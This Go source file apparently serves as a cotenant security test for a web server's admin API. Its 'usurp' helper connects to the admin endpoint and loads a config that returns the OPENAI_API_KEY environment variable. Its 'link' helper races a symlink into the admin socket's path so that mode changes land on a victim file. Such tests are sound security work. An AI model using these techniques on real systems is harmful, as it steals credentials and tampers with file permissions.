//go:build linux

package cotenant

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"time"
)

// usurperReport is what a usurper has to tell.
type usurperReport struct {
	Tries     int
	Connected int    // how often somebody took its connection
	Answered  int    // how often it was an admin endpoint
	Key       string // what a config of its own answered with
}

// usurp attacks an admin endpoint, of which it takes the network and the
// address. As "link", it has the address of a socket lead to another file.
func usurp(args []string) error {
	u := &usurper{network: args[0], address: args[1], end: untilEnd()}
	if u.network == "link" {
		return u.link(args[2])
	}
	for u.Key == "" {
		u.Tries++
		conn, err := net.Dial(u.network, u.address)
		if err == nil {
			u.Connected++
			fmt.Fprintln(os.Stderr, "connected")
			u.use(conn)
		}
		if ended(u.end) {
			break
		}
	}
	<-u.end
	return report(u.usurperReport)
}

type usurper struct {
	network, address string
	end              <-chan struct{}
	usurperReport
}

// use loads a config that tells the key, if the other end is an admin endpoint.
func (u *usurper) use(conn net.Conn) {
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DialContext: func(context.Context, string, string) (net.Conn, error) {
			if conn == nil {
				return net.Dial(u.network, u.address)
			}
			first := conn
			conn = nil
			return first, nil
		},
	}}
	defer client.CloseIdleConnections()
	host := "127.0.0.1"
	if u.network == "tcp" {
		host = u.address
	}
	config, err := client.Get("http://" + host + "/config/")
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, config.Body) // (for the next request on this connection)
	_ = config.Body.Close()
	u.Answered++
	const key = `{"admin": {"disabled": true}, "apps": {"http": {"servers": {"s": {"listen": ["127.0.0.1:%d"],
		"routes": [{"handle": [{"handler": "static_response", "body": "{env.OPENAI_API_KEY}"}]}]}}}}}`
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return
	}
	port := listener.Addr().(*net.TCPAddr).Port
	_ = listener.Close()
	loaded, err := client.Post("http://"+host+"/load", "application/json", bytes.NewBufferString(fmt.Sprintf(key, port)))
	if err != nil {
		return
	}
	_ = loaded.Body.Close()
	answer, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/", port))
	if err != nil {
		return
	}
	defer answer.Body.Close()
	body, _ := io.ReadAll(answer.Body)
	u.Key = string(body)
}

// link puts a link to another file in place of the socket, again and again: a
// server that changes the mode of its socket by name changes that file's.
func (u *usurper) link(victim string) error {
	mine := filepath.Join(filepath.Dir(u.address), ".usurper")
	for !ended(u.end) {
		if os.Symlink(victim, mine) == nil && os.Rename(mine, u.address) == nil {
			if u.Tries++; u.Tries == 1 {
				fmt.Fprintln(os.Stderr, "linked")
			}
		}
		_ = os.Remove(mine)
	}
	return report(u.usurperReport)
}
